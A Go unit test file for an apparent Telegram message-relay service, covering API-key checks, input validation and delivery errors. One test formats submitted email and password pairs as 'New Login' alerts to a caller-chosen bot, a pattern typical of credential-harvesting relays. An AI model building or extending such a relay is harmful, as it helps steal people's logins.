package service

import (
	"context"
	"errors"
	"testing"

	"github.com/rs/zerolog"
	"github.com/shimantoislam/bot/internal/config"
	"github.com/shimantoislam/bot/internal/domain/model"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

type fakeNotifier struct {
	sends []*model.Notification
	err   error
}

func (f *fakeNotifier) Send(_ context.Context, n *model.Notification) error {
	f.sends = append(f.sends, n)
	return f.err
}

func newTestService(notifier *fakeNotifier) *RelayService {
	cfg := &config.Config{Auth: config.AuthConfig{APIKey: "flash"}}
	log := zerolog.Nop()
	return NewRelayService(cfg, notifier, &log)
}

func TestRelay_WrongAPIKeyRejectedInBothModes(t *testing.T) {
	for _, source := range []Source{SourceBody, SourceQuery} {
		notifier := &fakeNotifier{}
		svc := newTestService(notifier)

		// Everything else is valid; the key alone must sink the request.
		err := svc.Relay(context.Background(), Input{
			Source:        source,
			APIKey:        "wrong",
			APIKeyPresent: true,
			Token:         "AAA",
			Chat:          "123",
			Data:          "hi",
			DataPresent:   true,
		})

		assert.ErrorIs(t, err, ErrInvalidAPIKey, "source %s", source)
		assert.Empty(t, notifier.sends, "source %s", source)
	}
}

func TestRelay_BodyModeAlwaysChecksAPIKey(t *testing.T) {
	notifier := &fakeNotifier{}
	svc := newTestService(notifier)

	err := svc.Relay(context.Background(), Input{
		Source:      SourceBody,
		Token:       "AAA",
		Chat:        "123",
		Data:        "hi",
		DataPresent: true,
	})

	assert.ErrorIs(t, err, ErrInvalidAPIKey)
	assert.Empty(t, notifier.sends)
}

func TestRelay_QueryModeSkipsAbsentAPIKey(t *testing.T) {
	notifier := &fakeNotifier{}
	svc := newTestService(notifier)

	err := svc.Relay(context.Background(), Input{
		Source:      SourceQuery,
		Token:       "AAA",
		Chat:        "123",
		Data:        "hi",
		DataPresent: true,
	})

	require.NoError(t, err)
	assert.Len(t, notifier.sends, 1)
}

func TestRelay_TokenChatDataMode(t *testing.T) {
	notifier := &fakeNotifier{}
	svc := newTestService(notifier)

	err := svc.Relay(context.Background(), Input{
		Source:      SourceQuery,
		Token:       "AAA",
		Chat:        "123",
		Data:        "Hello%20World",
		DataPresent: true,
	})

	require.NoError(t, err)
	require.Len(t, notifier.sends, 1)
	sent := notifier.sends[0]
	assert.Equal(t, "AAA", sent.BotToken)
	assert.Equal(t, "123", sent.ChatID)
	// Percent-decoded exactly, no template wrapping.
	assert.Equal(t, "Hello World", sent.Text)
}

func TestRelay_TokenChatDataModeTakesPriority(t *testing.T) {
	notifier := &fakeNotifier{}
	svc := newTestService(notifier)

	err := svc.Relay(context.Background(), Input{
		Source:        SourceBody,
		APIKey:        "flash",
		APIKeyPresent: true,
		BotToken:      "direct-token",
		UserID:        "direct-user",
		Email:         "a@b.com",
		Password:      "pw",
		Token:         "AAA",
		Chat:          "123",
		Data:          "raw",
		DataPresent:   true,
	})

	require.NoError(t, err)
	require.Len(t, notifier.sends, 1)
	assert.Equal(t, "AAA", notifier.sends[0].BotToken)
	assert.Equal(t, "123", notifier.sends[0].ChatID)
	assert.Equal(t, "raw", notifier.sends[0].Text)
}

func TestRelay_LoginTemplate(t *testing.T) {
	notifier := &fakeNotifier{}
	svc := newTestService(notifier)

	err := svc.Relay(context.Background(), Input{
		Source:        SourceBody,
		APIKey:        "flash",
		APIKeyPresent: true,
		BotToken:      "t",
		UserID:        "u",
		Email:         "e",
		Password:      "p",
	})

	require.NoError(t, err)
	require.Len(t, notifier.sends, 1)
	sent := notifier.sends[0]
	assert.Equal(t, "t", sent.BotToken)
	assert.Equal(t, "u", sent.ChatID)
	assert.Equal(t, "<b>New Login</b>\n📧 Email: e\n🔑 Password: p", sent.Text)
}

func TestRelay_LiteralMessage(t *testing.T) {
	notifier := &fakeNotifier{}
	svc := newTestService(notifier)

	err := svc.Relay(context.Background(), Input{
		Source:        SourceBody,
		APIKey:        "flash",
		APIKeyPresent: true,
		BotToken:      "t",
		UserID:        "u",
		Message:       "deploy finished",
	})

	require.NoError(t, err)
	require.Len(t, notifier.sends, 1)
	assert.Equal(t, "deploy finished", notifier.sends[0].Text)
}

func TestRelay_ValidationErrors(t *testing.T) {
	cases := map[string]Input{
		"empty input":               {},
		"token mode missing data":   {Token: "AAA", Chat: "123"},
		"token mode empty data":     {Token: "AAA", Chat: "123", DataPresent: true},
		"token mode malformed data": {Token: "AAA", Chat: "123", Data: "%zz", DataPresent: true},
		"direct mode no credential": {BotToken: "t", UserID: "u"},
		"direct mode no password":   {BotToken: "t", UserID: "u", Email: "e"},
		"direct mode no user id":    {BotToken: "t", Email: "e", Password: "p"},
	}

	for name, in := range cases {
		t.Run(name, func(t *testing.T) {
			notifier := &fakeNotifier{}
			svc := newTestService(notifier)

			in.Source = SourceBody
			in.APIKey = "flash"
			in.APIKeyPresent = true

			err := svc.Relay(context.Background(), in)
			assert.ErrorIs(t, err, ErrValidation)
			assert.Empty(t, notifier.sends)
		})
	}
}

func TestRelay_DeliveryFailure(t *testing.T) {
	notifier := &fakeNotifier{err: errors.New("telegram: sendMessage returned status 400")}
	svc := newTestService(notifier)

	err := svc.Relay(context.Background(), Input{
		Source:      SourceQuery,
		Token:       "AAA",
		Chat:        "123",
		Data:        "hi",
		DataPresent: true,
	})

	assert.ErrorIs(t, err, ErrDelivery)
	assert.Len(t, notifier.sends, 1)
}

func TestRelay_NoDeduplication(t *testing.T) {
	notifier := &fakeNotifier{}
	svc := newTestService(notifier)

	in := Input{
		Source:      SourceQuery,
		Token:       "AAA",
		Chat:        "123",
		Data:        "hi",
		DataPresent: true,
	}

	require.NoError(t, svc.Relay(context.Background(), in))
	require.NoError(t, svc.Relay(context.Background(), in))

	// Two identical requests are two independent delivery attempts.
	assert.Len(t, notifier.sends, 2)
}
